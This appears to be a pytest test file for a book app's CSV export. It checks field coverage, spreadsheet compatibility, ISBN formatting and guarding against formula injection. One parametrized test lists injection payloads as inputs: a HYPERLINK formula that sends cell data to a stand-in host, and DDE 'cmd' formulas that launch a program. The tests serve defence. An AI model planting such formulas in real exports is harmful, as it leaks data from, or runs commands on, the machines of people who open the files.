"""CSV: what a spreadsheet shows is the record, and nothing in it is computed."""

import csv
import math

import pytest
from exportkit import ANNOTATION, BARE, FULL, annotations, few, shelves_of_books, texts
from hypothesis import example, given

from bookq_gui.exports.export import export
from bookq_gui.exports.spreadsheets import COLUMNS, guarded, hyphenated
from bookq_gui.exports.values import plain
from bookq_gui.imports.trackers.own import _unguarded


def read(file):
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream, strict=True))


def test_every_field_of_the_record_is_there(tmp_path):
    file = tmp_path / "books.csv"
    assert export([FULL, BARE], file, annotations={FULL.id: ANNOTATION}) == 2
    full, bare = read(file)
    assert full == {
        "id": "990000001",
        "work_id": "980000001",
        "url": FULL.url,
        "title": FULL.title,
        "title_complete": FULL.title_complete,
        "original_title": "Kartografen",
        "series": "Tidewater #1-2; Small Seas",
        "authors": "Maren van der Ostrove; Tobias Wrenfield Jr.",
        "contributors": "Maren van der Ostrove (Author); Tobias Wrenfield Jr. (Author); "
        "Hanne Vold (Translator); Ada Quillon (Editor/Introduction); Bram Ohm (Illustrator)",
        "rating": "4.26",
        "ratings_count": "1844845",
        "reviews_count": "120401",
        "stars_1": "1",
        "stars_2": "2",
        "stars_3": "3",
        "stars_4": "4",
        "stars_5": "5",
        "first_published": "1998",
        "published": "2006-05-04",
        "publisher": "Lanternfish & Daughters",
        "edition": "First Edition",
        "format": "Hardcover",
        "pages": "321",
        "language": "English",
        "isbn10": "0-306406152",
        "isbn13": "978-0306406157",
        "asin": "B000000000",
        "genres": "Fantasy; Science Fiction",
        "awards": "Halvard Prize, Novel (1999), won; Ossian",
        "characters": "Ilse; Cosmo",
        "places": "Halvard; Ossian",
        "editions_count": "12",
        "currently_reading": "3",
        "want_to_read": "400",
        "description": FULL.description,
        "description_html": FULL.description_html,
        "cover_url": FULL.cover_url,
        "layout": "next",
        "fetched_at": "2026-11-23T12:00:00Z",
        "source": FULL.source,
        "warnings": "The ISBN-10 on the page does not hold.",
        "state": "read",
        "my_rating": "4.5",
        "read_on": "2021-03-14",
        "started_on": "2021-03",
        "added_on": "2020-02-29",
        "read_count": "2",
        "owned": "1",
        "tags": "Summer 2026; to lend",
        "review": ANNOTATION.review,
        "note": ANNOTATION.note,
        "spoiler": "yes",
    }
    stated = {"id", "url", "title", "layout", "fetched_at"}
    assert {name for name, cell in bare.items() if cell} == stated


def test_no_field_of_a_record_is_forgotten():
    flattened = {"stars"}
    assert set(FULL.to_dict()) - flattened <= set(COLUMNS)


def test_it_opens_right_in_a_spreadsheet(tmp_path):
    file = tmp_path / "books.csv"
    export([FULL], file)
    stored = file.read_bytes()
    assert stored.startswith(b"\xef\xbb\xbfid,")
    assert stored.endswith(b"\r\n")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "'=1+1",
    ],
)
def test_nothing_is_computed(tmp_path, text):
    file = tmp_path / "books.csv"
    book = {**BARE.to_dict(), "title": text, "publisher": text, "genres": [text]}
    export([type(BARE).from_dict(book)], file, annotations={BARE.id: ANNOTATION.changed(note=text)})
    row = read(file)[0]
    for name in ("title", "publisher", "genres"):
        assert row[name] == "'" + plain(text)
        assert _unguarded(row[name]) == plain(text)
    assert row["note"].startswith("'")


@pytest.mark.parametrize("text", ["-1800", "-0.5", "1984", "Catch-22", "'Salem's Lot", "", "a=b"])
def test_what_computes_nothing_stays_as_it_is(text):
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("isbn", "shown"),
    [
        ("0306406152", "0-306406152"),
        ("9780306406157", "978-0306406157"),
        ("9791090636071", "979-1090636071"),
        ("354065309X", "3-54065309X"),
        ("8175257660", "81-75257660"),
        ("6001190125", "600-1190125"),
        ("6500000000", "65-00000000"),
        ("9510396753", "951-0396753"),
        ("9971502100", "9971-502100"),
        ("9992158107", "99921-58107"),
        (None, ""),
        ("not one", "not one"),
    ],
)
def test_isbns_stay_text_in_a_spreadsheet(isbn, shown):
    assert hyphenated(isbn) == shown


@given(texts)
@example("'" * 3 + "=x")
@example("\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"))
def test_a_guarded_cell_gives_its_text_back(text):
    cell = guarded(text)
    assert _unguarded(cell) == plain(text)
    assert cell[:1] not in set("=+-@\t\r\n＝＋－＠") or cell.lstrip("-").replace(".", "").isdecimal()


@given(shelves_of_books, annotations)
@few
def test_any_text_survives(tmp_path_factory, books, mark):
    file = tmp_path_factory.mktemp("out") / "books.csv"
    export(books, file, annotations={1: mark})
    rows = read(file)
    assert len(rows) == len(books)
    for book, row in zip(books, rows, strict=True):
        for name in ("url", "title", "title_complete", "description", "publisher", "layout", "source"):
            assert _unguarded(row[name]) == plain(getattr(book, name) or ""), name
        for name in ("authors", "genres", "characters", "places", "warnings"):
            assert _unguarded(row[name]) == plain("; ".join(filter(None, getattr(book, name)))), name
        assert _unguarded(row["note"]) == plain(mark.note if book.id == 1 else "")
        rating = book.rating if book.rating is not None and math.isfinite(book.rating) else None
        assert (float(row["rating"]) if row["rating"] else None) == rating
        assert (int(row["pages"]) if row["pages"] else None) == book.pages
